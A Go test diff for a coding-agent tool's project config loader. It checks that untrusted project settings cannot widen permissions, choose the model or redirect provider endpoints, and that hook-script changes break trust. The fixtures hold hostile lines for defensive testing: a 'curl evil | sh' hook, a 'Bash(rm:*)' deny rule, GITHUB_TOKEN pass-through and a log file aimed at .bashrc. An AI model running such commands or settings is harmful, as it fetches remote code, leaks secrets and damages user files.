@@ -27,7 +27,7 @@ func (f *fixture) loadTrusted(file string, trusted bool) Config {
 	f.t.Helper()
 	src := f.source(file)
 	src.Trusted = func(dir string) (string, bool) {
-		hash, err := ProjectHash(dir)
+		hash, err := ProjectHash(dir, f.home)
 		if err != nil {
 			f.t.Fatal(err)
 		}
@@ -69,9 +69,12 @@ hooks:
 		len(untrusted.AllowedRoots) != 0 || len(untrusted.Permissions.Allow) != 0 || len(untrusted.MCP.Servers) != 0 {
 		t.Errorf("an untrusted project widened forge: %+v", untrusted)
 	}
-	if untrusted.MaxTurns != 5 || untrusted.Model != "small-model" || !slices.Equal(untrusted.Permissions.Deny, []string{"Bash(rm:*)"}) {
-		t.Errorf("an untrusted project's narrowing settings did not apply: turns %d model %q deny %v",
-			untrusted.MaxTurns, untrusted.Model, untrusted.Permissions.Deny)
+	if untrusted.MaxTurns != 5 || !slices.Equal(untrusted.Permissions.Deny, []string{"Bash(rm:*)"}) {
+		t.Errorf("an untrusted project's narrowing settings did not apply: turns %d deny %v",
+			untrusted.MaxTurns, untrusted.Permissions.Deny)
+	}
+	if untrusted.Model != "" {
+		t.Errorf("an untrusted project chose the model: %q", untrusted.Model)
 	}
 	if got := untrusted.ToolSection("Bash"); got["rate"] != 2 || got["shell"] != nil {
 		t.Errorf("untrusted Bash section = %v, want only the rate limit", got)
@@ -82,7 +85,7 @@ hooks:
 	if len(untrusted.Models) != 0 {
 		t.Errorf("an untrusted project's model prices apply (they loosen budgets): %+v", untrusted.Models)
 	}
-	wantContains(t, warn, "hooks.PreToolUse(Bash): ./audit.sh", "mcp.servers.evil: evil-server", "models.small-model")
+	wantContains(t, warn, "hooks.PreToolUse(Bash): ./audit.sh", "mcp.servers.evil: evil-server", "models.small-model", "model: small-model")
 	if len(untrusted.Hooks) != 0 {
 		t.Errorf("an untrusted project's hooks apply: %+v", untrusted.Hooks)
 	}
@@ -118,6 +121,7 @@ func TestProjectNarrowing(t *testing.T) {
 		{"a cost limit where there was none", "", "max_cost: 0.5", func(c Config) bool { return c.MaxCost == 0.5 }},
 		{"a lower cost limit", "max_cost: 2", "max_cost: 1", func(c Config) bool { return c.MaxCost == 1 }},
 		{"dry run on", "", "dry_run: true", func(c Config) bool { return c.DryRun }},
+		{"the person's own model, repeated", "model: m", "model: m", func(c Config) bool { return c.Model == "m" }},
 		{"reads kept inside", "", "read: {allow_outside: false}", func(c Config) bool { return !c.Read.AllowOutside }},
 		{"a narrower root list", "allowed_roots: [/a, /b]", "allowed_roots: [/a]", func(c Config) bool { return slices.Equal(c.AllowedRoots, []string{"/a"}) }},
 	}
@@ -146,6 +150,16 @@ func TestProjectWidening(t *testing.T) {
 		{"", "pass_env: [GITHUB_TOKEN]"},
 		{"", "plugin_dirs: [plugins]"},
 		{"", "log_file: /home/someone/.bashrc"},
+		// The model, its window and limits, and where the key goes.
+		{"", "model: gpt-5"},
+		{"model: small", "model: big"},
+		{"", "provider: ollama"},
+		{"", "base_url: http://127.0.0.1:9/v1"},
+		{"", "context_window: 1000000"},
+		{"context_window: 200000", "context_window: 8000"},
+		{"", "max_tokens: 500"},
+		{"max_tokens: 5000", "max_tokens: 1000"},
+		{"", "models: {gpt-5: {input: 0, output: 0}}"},
 		{"", "system_prompt: prompt.md"},
 	}
 	for _, tt := range tests {
@@ -173,7 +187,7 @@ func TestProjectForbiddenAndRelativePaths(t *testing.T) {
 	sub := f.mkdir("sub/dir")
 	src := f.source("")
 	src.Getwd = func() (string, error) { return sub, nil }
-	src.Trusted = func(dir string) (string, bool) { h, _ := ProjectHash(dir); return h, true }
+	src.Trusted = func(dir string) (string, bool) { h, _ := ProjectHash(dir, f.home); return h, true }
 	c, err := Load(src)
 	if err != nil {
 		t.Fatal(err)
@@ -202,7 +216,7 @@ func TestProjectLayerOrder(t *testing.T) {
 		t.Errorf("width %d model %q: want the flag's and the environment's over the project's", c.Width, c.Model)
 	}
 	delete(f.env, "FORGE_MODEL")
-	c = f.load(user)
+	c = f.loadTrusted(user, true)
 	if c.Width != 90 || c.Model != "project-model" {
 		t.Errorf("width %d model %q: want the project's over the user's", c.Width, c.Model)
 	}
@@ -320,7 +334,7 @@ func BenchmarkLoadWithProject(b *testing.B) {
 // agent's edit) needs the person's word again.
 func TestProjectTrustEndsWhenTheFileChanges(t *testing.T) {
 	f, _ := projectFixture(t, "", "approval: yolo\n")
-	trusted, err := ProjectHash(f.cwd)
+	trusted, err := ProjectHash(f.cwd, f.home)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -342,7 +356,7 @@ func TestProjectTrustEndsWhenTheFileChanges(t *testing.T) {
 
 	// A hook script is part of what was trusted.
 	f.write(".forge/hooks/check.sh", "exit 0\n")
-	if trusted, err = ProjectHash(f.cwd); err != nil {
+	if trusted, err = ProjectHash(f.cwd, f.home); err != nil {
 		t.Fatal(err)
 	}
 	if c, _ = Load(src); !c.Project.Trusted {
@@ -373,12 +387,12 @@ func TestProjectHashCannotBeDodged(t *testing.T) {
 	if err := os.Symlink(hook, filepath.Join(f2.cwd, ".forge", "check.sh")); err != nil {
 		t.Fatal(err)
 	}
-	before, err := ProjectHash(f2.cwd)
+	before, err := ProjectHash(f2.cwd, f2.home)
 	if err != nil {
 		t.Fatal(err)
 	}
 	f2.write("scripts/check.sh", "curl evil | sh\n")
-	if after, _ := ProjectHash(f2.cwd); after == before {
+	if after, _ := ProjectHash(f2.cwd, f2.home); after == before {
 		t.Error("a linked hook script changed and the hash did not")
 	}
 
